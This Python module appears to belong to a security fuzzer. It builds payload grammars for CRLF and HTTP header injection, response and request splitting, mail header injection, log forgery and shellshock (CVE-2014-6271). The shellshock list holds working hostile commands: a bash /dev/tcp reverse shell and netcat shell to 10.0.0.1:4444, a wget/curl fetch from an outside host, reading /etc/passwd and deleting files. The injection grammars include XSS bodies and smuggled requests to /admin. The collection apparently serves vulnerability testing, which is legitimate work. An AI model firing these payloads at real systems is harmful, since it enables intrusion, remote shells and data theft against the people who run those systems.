"""What reaches header lines and the environment: line breaks that begin another header or response, and shellshock.

From RFC 9112, RFC 5322, and CVE-2014-6271 with its kin.
"""

from ..grammar import Grammar


def grammars() -> list[Grammar]:
    g = Grammar("crlf")
    g.rule(
        "nl",
        "\r\n",
        "\r\n",
        "\n",
        "\r",
        "%0d%0a",
        "%0a",
        "%0d",
        "%0D%0A",
        "%0a%0d",
        "%E5%98%8A%E5%98%8D",
        "嘊嘍",
        "%u000d%u000a",
        "%25%30%61",
        "%250d%250a",
        "%c4%8d%c4%8a",
        "%%0d0a",
        "\r\n\t",
        "\r\n ",
        "%23%0d%0a",
        "%3f%0d%0a",
        "\r\r\n",
        "\x0b\r\n",
        "&#13;&#10;",
        "č\u010a",
    )
    g.rule(
        "header",
        "Set-Cookie: «w»=«w»",
        "Set-Cookie:«w»=1; path=/",
        "Location: http://x.example/",
        "Location: //x.example",
        "Content-Length: 0",
        "Content-Type: text/html",
        "X-«w»: «w»",
        "X-XSS-Protection: 0",
        "Access-Control-Allow-Origin: *",
        "Link: <http://x.example/>; rel=stylesheet",
        "Refresh: 0; url=http://x.example",
        "Host: x.example",
        "Transfer-Encoding: chunked",
        "X-Forwarded-For: 127.0.0.1",
        "X-Forwarded-Host: x.example",
        "Content-Security-Policy: default-src *",
        "Authorization: Basic «h»",
        "Strict-Transport-Security: max-age=0",
        "X-Accel-Redirect: /x",
        "Status: 302",
        "Connection: close",
    )
    g.rule("request-header", "Cookie: a=«w»", "Referer: x", "User-Agent: «w»", "Accept: */*", "X: y")
    g.rule("val", "", "«w»", "/«w»", "en", "http://«w».example/", "1", "«n»", "?", "«w».html", "/«w»/«w»?a=1", "«w»@example.com")
    g.rule("body", "<html>«w»</html>", "<script>alert(1)</script>", "<h1>«w»</h1>", "«w»", "<svg onload=alert(1)>")
    g.family(
        "header",
        "«val»«nl»«header»",
        "«val»«nl»«header»«nl»",
        "«nl»«header»",
        "«val»«nl»«header»«nl»«header»",
        "«val»«nl»Set-Cookie: «w»=«w»",
        weight=3,
    )
    g.family("request-header", "«val»«nl»«request-header»", "«val»«nl»«request-header»«nl»", tags=["needs-sink"])
    g.family(
        "response-splitting",
        "«val»«nl»«nl»«body»",
        "«val»«nl:1»Content-Length: 0«nl:1»«nl:1»HTTP/1.1 200 OK«nl:1»Content-Type: text/html«nl:1»«nl:1»«body»",
        "«val»«nl:1»«header»«nl:1»«nl:1»«body»",
        "«nl:1»Content-Type: text/html«nl:1»X: 1«nl:1»«nl:1»«body»",
        "«val»«nl:1»HTTP/1.1 302 Found«nl:1»Location: http://x.example",
        "«val»«nl:1»«nl:1»HTTP/1.0 200 OK«nl:1»«nl:1»«body»",
    )
    g.family(
        "request-splitting",
        "«val» HTTP/1.1\r\nHost: x.example\r\n\r\nGET /admin HTTP/1.1\r\nHost: «w».example\r\n\r\n",
        "«val» HTTP/1.1%0d%0aHost: x%0d%0a%0d%0aGET /«w»",
        "«val»\r\n\r\nPOST /«w» HTTP/1.1\r\nContent-Length: «n»\r\n\r\n",
        "0\r\n\r\nGET /«w» HTTP/1.1\r\nX: y",
        "«val»%20HTTP/1.1%0d%0aX-«w»:%20«w»",
        "0\r\n\r\nG",
        "«val»\r\nGET http://x.example/ HTTP/1.0\r\n\r\n",
    )
    g.family(
        "mail",
        "«w»@example.com\nBcc: «w»@x.example",
        "«w»@example.com\r\nCc: a@x.example, b@x.example",
        "«w»@example.com%0aBcc:a@x.example",
        "«w»\nContent-Type: multipart/mixed; boundary=x",
        "«w»\r\nSubject: «w»\r\n\r\n«w»",
        "«w»@example.com%0d%0aTo: x@x.example",
        "«w»\nMIME-Version: 1.0\nContent-Type: text/html\n\n<h1>«w»</h1>",
        "«w»\nFrom: admin@x.example",
        "a@example.com>\r\nRCPT TO:<b@x.example>",
        "«w»\r\n.\r\nMAIL FROM:<x@x.example>",
        "a@example.com\nReply-To: x@x.example",
        "«w»\r\nDATA\r\nSubject: x\r\n.\r\n",
    )
    g.family(
        "log-lines",
        '«w»\n127.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1',
        "«w»%0a[INFO] user admin logged in",
        "«w»\r\nERROR login succeeded for admin",
        "«w»\n2024-01-01 00:00:00 INFO «w»",
        tags=["needs-sink"],
    )

    s = Grammar("shellshock")
    s.rule(
        "cmd",
        "id",
        "/bin/id",
        "/usr/bin/id",
        "cat /etc/passwd",
        "ping -c 1 10.0.0.1",
        "wget http://x.example/x",
        "curl http://x.example",
        "/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "sleep 5",
        "echo «w»",
        "/bin/bash -c 'id'",
        "echo; echo; /bin/cat /etc/passwd",
        "echo Content-Type: text/plain; echo; id",
        "/sbin/ifconfig",
        "touch /tmp/x",
        "nc -e /bin/sh 10.0.0.1 4444",
        "rm -rf /tmp/x",
        "uname -a",
        "perl -e 'print 1'",
    )
    s.rule(
        "body",
        ":;",
        " :; ",
        " :;",
        "ignored;",
        " ignored; ",
        " x;",
        "_;",
        " _; ",
        ":; ",
        " a=b; ",
        " foo:; ",
        " echo hi; ",
        " }>_[$($())] {",
    )
    s.family(
        "function",
        "() {«body»}; «cmd»",
        "() {«body»};«cmd»",
        "() { :;}; «cmd»",
        "() { :; }; «cmd»",
        "(){ :;}; «cmd»",
        "() { ignored; }; «cmd»",
        "() { :;};echo;«cmd»",
        "«w»=() { :;}; «cmd»",
        "() { _; } >_[$($())] { «cmd»; }",
        "() { x() { _; }; x() { _; } <<a; }",
        "() { :; }; «cmd»; «cmd»",
        "Mozilla/5.0 () { :;}; «cmd»",
        "() { (a)=>\\' «cmd»",
        "()\t{ :; }; «cmd»",
        "() { 0;}; «cmd»",
        "() { foo;};«cmd»",
        "env x='() { :;}; «cmd»' bash -c x",
        "() %7b :;%7d; «cmd»",
        "()  {  :;  };  «cmd»",
        "() { «w»;}; «cmd»",
    )
    return [g, s]
